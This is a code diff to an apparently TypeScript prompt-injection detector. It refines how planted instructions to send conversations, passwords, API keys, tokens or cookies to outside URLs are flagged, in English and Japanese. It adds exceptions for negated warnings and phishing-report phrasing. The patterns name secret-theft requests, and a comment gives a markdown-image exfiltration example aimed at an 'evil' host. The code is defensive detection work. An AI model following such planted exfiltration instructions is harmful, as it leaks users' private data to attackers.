@@ -43,6 +43,20 @@ const EXFIL = new RegExp(
   `\\b(?:send|forward|post|upload|email|e-mail|transmit|exfiltrate|leak|submit|append|include|encode)\\b[^.\\n]{0,40}\\b(?:conversation|chat(?: history| log)?|messages|history|credentials|passwords?|api[ _-]?keys?|tokens?|secrets?|personal (?:data|information)|user(?:'s)? (?:data|information|details)|(?:all |the |their |users?'?s? )e-?mails|files|cookies|session)\\b[^.\\n]{0,40}(?:https?:|www\\.|[\\w.+-]{1,64}@[\\w-]{1,64}\\.|\\b(?:to|in|into) (?:this|the following|my|our|the) (?:url|link|address|endpoint|server|webhook|query string|image url)\\b)`,
 );
 const EXFIL_JA = /(?:会話|チャット|履歴|個人情報|パスワード|apiキー|APIキー|認証情報|トークン|クッキー|秘密|機密|ユーザー(?:の)?(?:情報|データ))(?:の内容|の全文|の一部)?(?:を|は)[^。]{0,40}?(?:https?:|www\.|@|URL|url|アドレス|サーバー|外部|エンドポイント|webhook)[^。]{0,30}?(?:送信|転送|送っ|送る|送れ|アップロード|投稿|埋め込|含め|付け)/;
+const EXFIL_G = new RegExp(EXFIL.source, 'g');
+/** "We will never ask you to send passwords by email", "forward suspicious messages to security@": a warning and a report channel. */
+const EXFIL_NEGATED = /\b(?:never|not|don't|dont|do not|won't|will not|cannot|can't|shouldn't|should not|must not)\b[^.\n]{0,25}$/;
+const EXFIL_REPORT = /^\S+\s(?:(?:all |any |the )?(?:suspicious|suspected|phishing|spam|fraudulent|fake|scam)\b)/;
+
+function exfilAsked(t: string): boolean {
+  for (const m of t.matchAll(EXFIL_G)) {
+    if (EXFIL_NEGATED.test(t.slice(Math.max(0, m.index - 40), m.index))) continue;
+    if (EXFIL_REPORT.test(m[0])) continue;
+    return true;
+  }
+  return false;
+}
+
 /** Markdown image whose URL carries a templated or data-looking query: ![x](https://evil/?q={data}). */
 const EXFIL_IMAGE = /!\[[^\]\n]{0,100}\]\(https?:\/\/[^)\s]{1,200}[?&][^)\s=]{1,40}=(?:\{|\[|<|\$|%7b|%3c)[^)\s]{0,200}\)/;
 
@@ -100,7 +114,7 @@ export const detectIndirect: Detector = (v) => {
   if (!hits.some((h) => h.id === 'indirect.addressed') && addressedNote(t, j)) hits.push({ id: 'indirect.addressed-note', reason: 'indirect_injection', weight: W.addressed });
   if (outcomePlanted(t, j)) hits.push({ id: 'indirect.outcome-planted', reason: 'indirect_injection', weight: W.addressed });
   if (outputDictated(t, j)) hits.push({ id: 'indirect.output-dictated', reason: 'indirect_injection', weight: W.addressed });
-  if ((hasAny(t, EXFIL_LITS) && EXFIL.test(t)) || (hasAny(j, EXFIL_JA_LITS) && hasAny(j, EXFIL_JA_VERB_LITS) && EXFIL_JA.test(j))) {
+  if ((hasAny(t, EXFIL_LITS) && exfilAsked(t)) || (hasAny(j, EXFIL_JA_LITS) && hasAny(j, EXFIL_JA_VERB_LITS) && EXFIL_JA.test(j))) {
     hits.push({ id: 'indirect.exfil', reason: 'indirect_injection', weight: W.exfil });
   }
   if (hasAny(t, EXFIL_IMAGE_LITS) && EXFIL_IMAGE.test(t)) hits.push({ id: 'indirect.exfil-image', reason: 'indirect_injection', weight: W.exfilImage });
